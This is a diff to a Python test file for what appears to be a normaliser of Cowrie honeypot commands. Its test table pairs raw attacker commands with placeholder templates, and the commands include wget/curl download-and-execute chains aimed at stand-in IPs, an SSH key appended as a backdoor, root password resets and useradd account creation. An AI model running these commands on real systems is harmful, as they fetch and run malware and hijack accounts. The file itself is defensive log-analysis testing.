@@ -12,7 +12,7 @@ from cowrie_assets_tests.cpu_time import least_cpu_seconds
 
 EXPECTED = {
     "wget  http://192.0.2.14/x86?id=1&v=2 -O\t/tmp/a": "wget <url> -O /tmp/a",
-    "curl http://192.0.2.14/x&&chmod 777 x": "curl <url>&&chmod <n> x",
+    "curl http://192.0.2.14/x&&chmod 777 x": "curl <url>&&chmod <n> <name>",
     "tftp -g -r i.sh 192.168.1.77": "tftp -g -r i.sh <ip>",
     "ping 2001:db8::1; ping ::ffff:192.0.2.1": "ping <ip>; ping <ip>",
     "date 10:20:30": "date <n>:<n>:<n>",
@@ -25,9 +25,20 @@ EXPECTED = {
     "echo " + "a" * 3000: "echo <long>",
     "cat /usr/local/lib64/Python3/site/packages/a/b": "cat /usr/local/lib64/Python<n>/site/packages/a/b",
     "cd deadbeef01; echo 0x1F": "cd <hex>; echo <hex>",
-    "chmod 777 8UsA.sh; ./8UsA.sh": "chmod <n> <name>.sh; ./<name>.sh",
+    "chmod 777 8UsA.sh; ./8UsA.sh": "chmod <n> <name>; ./<name>",
     "echo x > /tmp/xkqjzv; sh /tmp/.aBcDe": "echo x > /tmp/<name>; sh /tmp/.<name>",
-    'echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ mdrfckr">>a': 'echo "ssh-rsa <key> mdrfckr">>a',
+    'echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ mdrfckr">>a': 'echo "ssh-rsa <key>">>a',
+    "cd /tmp; wget http://192.0.2.1/aiptxmw; chmod 777 aiptxmw; ./aiptxmw": (
+        "cd /tmp; wget <url>; chmod <n> <name>; ./<name>"
+    ),
+    "wget http://a.example/b/?x=1; chmod 777 hgfdsa; ./hgfdsa": "wget <url>; chmod <n> <name>; ./<name>",
+    "curl http://192.0.2.1/m1 -o /tmp/kX; nohup /tmp/kX": "curl <url> -o /tmp/<name>; nohup /tmp/<name>",
+    "wget http://192.0.2.1/sh -O sh; sh x": "wget <url> -O sh; sh x",
+    "./scan 192.0.2.0/24": "./scan <ip>/<n>",
+    "mkdir /tmp/abcdefg && cd /tmp/xkqjzvw": "mkdir /tmp/<name> && cd /tmp/<name>",
+    'perl -e \'print crypt("AtEnd","aa")\'': 'perl -e \'print crypt("<password>","aa")\'',
+    "useradd -m -p AtEnd Zhrp": "useradd -m -p <password> <name>",
+    "printf 'root:%s\\n' AtEnd | chpasswd": "printf 'root:%s\\n' <password> | chpasswd",
     "python3 x 2>/dev/null >&1": "python3 x 2>/dev/null >&1",
     'echo -e "admin123\\nNEWpass99"|passwd': 'echo -e "<password>"|passwd',
     'sudo usermod -p "$6$a1" b2; echo 7|chpasswd': 'sudo usermod -p "<password>" b<n>; echo <n>|chpasswd',
@@ -49,6 +60,11 @@ PIECES = st.lists(
         [
             "http",
             "://",
+            "./",
+            "ab",
+            " -O ",
+            "crypt('",
+            "useradd ",
             "1.2.3.4",
             "1",
             "0x",
@@ -145,6 +161,12 @@ def test_a_long_command_is_cut_with_a_mark():
         "_",
         "a+",
         "-",
+        "./a ",
+        "http://a/b ",
+        "http://a/",
+        " -o a/",
+        "crypt('",
+        "AAAAaaaaaaaaaaaaaaaaaaaaaaaa b",
     ],
 )
 def test_a_megabyte_is_folded_within_a_second(unit):
